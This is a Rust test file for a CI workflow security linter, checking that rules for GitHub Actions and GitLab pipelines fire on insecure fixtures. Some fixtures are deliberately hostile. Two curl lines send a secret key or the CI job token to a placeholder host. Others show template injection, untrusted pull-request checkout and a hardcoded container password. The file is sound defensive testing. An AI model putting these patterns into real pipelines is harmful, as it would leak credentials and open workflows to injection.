//! Pipeline files: each rule fails where it should and is silent where it should.

use lem_engine_scan::cilint::{Kind, RULES, judge, kind};
use lem_engine_scan::skip::Skips;
use std::collections::BTreeSet;

const PIN: &str = "0123456789012345678901234567890123456789";

fn job(steps: &str) -> String {
    format!("on: push\npermissions: {{}}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n{steps}")
}

fn names(kind: Kind, text: &str) -> Vec<String> {
    let report = judge(kind, "f.yml", text);
    assert_eq!(report.diagnostics, [], "{text}");
    report.found.iter().map(|f| f.aliases[0].clone()).collect()
}

#[test]
fn each_rule_fails_and_passes() {
    let step = |text: &str| job(&format!("    - {text}\n"));
    let on = |trigger: &str, text: &str| step(text).replace("on: push", &format!("on: {trigger}"));
    let checkout = format!("uses: actions/checkout@{PIN}\n      with: {{persist-credentials: false}}");
    let inherit =
        format!("on: push\npermissions: {{}}\njobs:\n  a:\n    uses: o/r/w.yml@{PIN}\n    secrets: inherit\n");
    let cases: Vec<(String, &[&str])> = vec![
        (step(&checkout), &[]),
        (step("uses: actions/setup-go@v5"), &["unpinned-uses"]),
        (step("uses: ./local"), &[]),
        (step(&format!("uses: actions/checkout@{PIN}")), &["artipacked"]),
        (step("run: echo ${{ github.event.issue.title }}"), &["template-injection"]),
        (step("run: echo ${{ github.event.issue.number }}"), &[]),
        (
            step(&format!(
                "uses: actions/github-script@{PIN}\n      with:\n        script: f(`${{{{ github.head_ref }}}}`)"
            )),
            &["template-injection"],
        ),
        ("on: push\njobs:\n  a:\n    runs-on: x\n    steps: []\n".into(), &["excessive-permissions"]),
        (
            "on: push\npermissions: write-all\njobs:\n  a:\n    runs-on: x\n    steps: []\n".into(),
            &["excessive-permissions"],
        ),
        (on("pull_request_target", "run: make"), &["dangerous-triggers"]),
        (on("[pull_request_target]", &format!("{checkout}\n      env: {{A: b}}")), &["dangerous-triggers"]),
        (
            on(
                "{pull_request_target: {}}",
                &checkout.replace("false}", "false, ref: '${{ github.event.pull_request.head.sha }}'}"),
            ),
            &["dangerous-triggers", "untrusted-checkout"],
        ),
        (inherit, &["secrets-inherit"]),
        (step("run: x\n      env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: true}"), &["insecure-commands"]),
        (step("run: curl -d ${{ secrets.KEY }} https://x"), &["CKV_GHA_3"]),
        (on("workflow_run", "run: echo A=b >> $GITHUB_ENV"), &["dangerous-triggers", "github-env"]),
        (step("run: echo A=b >> $GITHUB_ENV"), &[]),
        (step("run: x\n      env: {A: '${{ toJSON(secrets) }}'}"), &["overprovisioned-secrets"]),
        (step("run: x\n      env: {A: '${{ fromJSON(secrets.A).b }}'}"), &["unredacted-secrets"]),
        (step("run: x\n      if: github.actor == 'dependabot[bot]'"), &["bot-conditions"]),
        (step("run: x\n      if: |\n        ${{ github.ref == 'a' }}\n"), &["unsound-condition"]),
        (step("run: x\n      if: ${{ github.ref == 'a' }}"), &[]),
        (step("run: x").replace("ubuntu-latest", "[self-hosted, linux]"), &["self-hosted-runner"]),
        (step("run: x").replace("    steps", "    container: node:20\n    steps"), &["unpinned-images"]),
        (
            step("run: x").replace(
                "    steps",
                "    container:\n      image: a@sha256:0\n      credentials: {password: hunter22}\n    steps",
            ),
            &["hardcoded-container-credentials"],
        ),
    ];
    let mut seen = BTreeSet::new();
    for (text, expect) in &cases {
        assert_eq!(names(Kind::GitHub, text), *expect, "{text}");
        seen.extend(expect.iter().copied());
    }
    for (text, expect) in [
        ("a:\n  image: a@sha256:0\n  script: [make]\n", &[][..]),
        ("a:\n  image: ruby:3\n  script: [make]\n", &["unpinned-images"]),
        ("include: {remote: 'https://x/y.yml'}\n", &["unpinned-include"]),
        ("include: [{project: a/b, ref: main, file: x.yml}]\n", &["unpinned-include"]),
        ("a:\n  script:\n  - curl -H JOB-TOKEN:$CI_JOB_TOKEN https://x\n", &["CKV_GITLABCI_1"]),
    ] {
        assert_eq!(names(Kind::GitLab, text), expect, "{text}");
        seen.extend(expect.iter().copied());
    }
    let all: BTreeSet<&str> = RULES.iter().map(|r| r.1[0]).collect();
    assert_eq!(seen, all, "every rule has a case");
}

#[test]
fn comments_of_other_tools_are_read() {
    let text = job(
        "    - uses: actions/setup-go@v5 # zizmor: ignore[unpinned-uses] our own fork\n    - uses: actions/setup-go@v5\n",
    );
    let mut report = judge(Kind::GitHub, "f.yml", &text);
    let (about, unused) = Skips::read("f.yml", &text).apply(&mut report.found);
    assert_eq!((about.len(), unused.len()), (0, 0));
    let skipped: Vec<_> = report.found.iter().map(|f| f.skipped.as_ref().and_then(|s| s.reason.as_deref())).collect();
    assert_eq!(skipped, [Some("our own fork"), None]);
}

#[test]
fn a_broken_file_has_a_place() {
    let report = judge(Kind::GitHub, "f.yml", "on: [push\njobs: {");
    assert_eq!(report.found, []);
    assert_eq!(report.diagnostics[0].place.file, "f.yml");
    assert!(report.diagnostics[0].place.line > 0);
}

#[test]
fn kinds_by_path() {
    assert_eq!(kind(".github/workflows/ci.yml"), Some(Kind::GitHub));
    assert_eq!(kind("sub/.gitlab-ci.yml"), Some(Kind::GitLab));
    assert_eq!(kind("docs/ci.yml"), None);
}
